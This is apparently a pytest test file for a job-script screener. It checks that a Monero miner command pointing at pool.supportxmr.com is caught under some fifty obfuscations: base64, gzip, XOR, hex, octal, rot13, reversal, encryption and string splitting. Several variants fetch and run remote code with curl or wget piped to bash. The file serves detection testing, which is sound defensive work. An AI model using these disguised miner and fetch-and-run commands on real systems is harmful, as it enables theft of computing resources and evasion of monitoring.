"""A miner whose command is hidden is never just fine: it is seen, or an open sign shows that something unread is run."""

import base64
import codecs
import gzip
import zlib

import pytest

from tocsin.core.verdict import SEEN_FROM
from tocsin.workload.screening import Screener, builtin

MINER = "./kworker -o stratum+tcp://pool.supportxmr.com:3333 -u w1 -k"
RAW = MINER.encode()
B64, B85, A85 = (encode(RAW).decode() for encode in (base64.b64encode, base64.b85encode, base64.a85encode))
XOR = bytes(byte ^ 42 for byte in RAW).hex()
DEFLATED = base64.b64encode(zlib.compress(RAW)[2:-4]).decode()
ROT13 = codecs.encode(MINER, "rot13")
ROT47 = "".join(chr(33 + (ord(c) + 14) % 94) if c != " " else c for c in MINER)
DECIMAL = " ".join(map(str, RAW))
OCTAL = "".join(f"\\{byte:03o}" for byte in RAW)
HEX = RAW.hex()
URL = "https://files.example.org/tools/update"
DISGUISES = {
    "base64": f"echo {B64} | base64 -d | bash",
    "base64 by openssl": f"echo {B64} | openssl base64 -d -A | sh",
    "base64 in pieces": f"a={B64[:30]}\nb={B64[30:]}\necho $a$b | base64 -d | bash",
    "base64, added up": f"a={B64[:30]}\na+={B64[30:]}\necho $a | base64 -d | bash",
    "base64 in a file": f"echo {B64} | base64 -d > /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x",
    "base64 in a variable": f'x=$(echo {B64[::-1]} | rev | base64 -d)\neval "$x"',
    "base32": f"echo {base64.b32encode(RAW).decode()} | base32 -d | bash",
    "gzip": f"echo {base64.b64encode(gzip.compress(RAW)).decode()} | base64 -d | gunzip | bash",
    "raw deflate in Python": f"python3 -c \"import zlib,base64,os;os.system(zlib.decompress(base64.b64decode('{DEFLATED}'),-15))\"",
    "raw deflate by Perl": f"echo {DEFLATED} | base64 -d | perl -MCompress::Raw::Zlib -e 'undef $/; print inflate(<>)' | sh",
    "base85 in Python": f"python3 -c \"import base64,os;os.system(base64.b85decode('{B85[:20]}'+'{B85[20:]}').decode())\"",
    "ascii85": f"python3 - <<E\nimport base64, subprocess\nsubprocess.run(base64.a85decode({A85!r}), shell=True)\nE",
    "XOR in Python": f"python3 -c \"import os;os.system(''.join(chr(b^42) for b in bytes.fromhex('{XOR}')))\"",
    "XOR on several lines": f"#!/usr/bin/env python3\nimport os\nkey = 42\ndata = bytes.fromhex('{XOR}')\ncommand = ''.join(chr(b ^ key) for b in data)\nos.system(command)",
    "hexadecimal in Python": f"python3 -c \"exec(bytes.fromhex('{HEX}'))\"",
    "hexadecimal by xxd": f"echo {HEX} | xxd -r -p | bash",
    "hexadecimal by Perl": f"perl -e 'system(pack(\"H*\", \"{HEX}\"))'",
    "hexadecimal in pieces": "\n".join(f"h+={HEX[n : n + 8]}" for n in range(0, len(HEX), 8)) + "\necho $h | xxd -r -p | sh",
    "decimals": f"for c in {DECIMAL}; do printf \"\\\\$(printf %o $c)\"; done | bash",
    "decimals by awk": f"echo {DECIMAL} | awk '{{for(i=1;i<=NF;i++) printf \"%c\",$i}}' | sh",
    "decimals in Python": f"python3 -c \"import os;os.system(bytes([{','.join(map(str, RAW))}]).decode())\"",
    "octal escapes": f"printf '{OCTAL}' | bash",
    "octal escapes, evaluated": f"eval \"$(printf '{OCTAL}')\"",
    "ANSI-C quotes": "$'" + "".join(f"\\x{byte:02x}" for byte in b"./kworker") + "' -o $'" + "".join(f"\\x{b:02x}" for b in b"stratum+tcp://pool.supportxmr.com:3333") + "' -u w1",
    "rot13": f"echo '{ROT13}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash",
    "rot13, another alphabet": f"echo '{ROT13}' | tr 'n-za-mN-ZA-M' 'a-zA-Z' | sh",
    "rot47": f"echo '{ROT47}' | tr '!-~' 'P-~!-O' | bash",
    "rot13 in Python": f"python3 -c \"import codecs,os;os.system(codecs.decode('{ROT13}','rot13'))\"",
    "backwards": f"echo '{MINER[::-1]}' | rev | bash",
    "backwards, evaluated": f"eval \"$(rev <<< '{MINER[::-1]}')\"",
    "encrypted": "openssl enc -d -aes-256-cbc -pbkdf2 -k s3cret -in data.bin | bash",
    "encrypted to a file": "openssl enc -d -aes-256-cbc -k s3cret -in data.bin -out run\nchmod +x run\n./run",
    "encrypted by GPG": "gpg -d --batch --passphrase x data.gpg | sh",
    "fetched and piped": f"curl -fsSL {URL} | bash",
    "fetched, changed and run": f"curl -fsSL {URL} -o /tmp/up\nchmod +x /tmp/up\n/tmp/up",
    "fetched by wget": f"wget -q {URL}\nchmod +x update\n./update",
    "fetched by wget -O": f"wget -qO /tmp/.c {URL} && chmod 755 /tmp/.c && /tmp/.c &",
    "fetched and renamed": f"wget -q {URL}\nmv update python3.9\nchmod +x python3.9\n./python3.9",
    "fetched and sourced": f"curl -s {URL} > env.sh\n. ./env.sh",
    "fetched by Python": f"python3 -c \"import urllib.request,os;urllib.request.urlretrieve('{URL}', 'up')\"\nchmod +x up\n./up",
    "fetched in a substitution": f'bash -c "$(curl -fsSL {URL})"',
    "fetched code in Python": f"python3 -c \"import urllib.request;exec(urllib.request.urlopen('{URL}').read())\"",
    "here-document to tr": f"tr 'n-za-mN-ZA-M' 'a-zA-Z' <<E | bash\n{ROT13}\nE",
    "sed away": f"echo '{'#'.join(MINER)}' | sed 's/#//g' | bash",
    "tr -d": f"echo '{'%'.join(MINER)}' | tr -d '%' | bash",
    "pieces": "a=./kwor b=ker\nc=stratum+tc\nd=p://pool.supportxmr.com:3333\n$a$b -o $c$d -u w1",
    "added up": "c=stratum\nc+=+tcp://pool.\nc+=supportxmr.com:3333\n./kworker -o $c -u w1",
    "empty quotes": "./kwo''rker -o str''atum+tcp://po\"\"ol.support''xmr.com:3333 -u w1 -k",
    "backslashes": "./kworker -o s\\t\\r\\atum+tcp://pool.support\\xmr.com:3333 -u w1",
}  # fmt: skip


@pytest.fixture(scope="module")
def shipped() -> Screener:
    return builtin()


@pytest.mark.parametrize("name", DISGUISES)
def test_no_disguise_is_just_fine(name: str, shipped: Screener) -> None:
    text = DISGUISES[name]
    script = text if text.startswith("#!") else f"#!/bin/bash\n#SBATCH -n 4\nmodule load gcc\n{text}\n"
    [found] = shipped.screen([script])
    assert found.open or found.operations["cryptomining"] >= SEEN_FROM
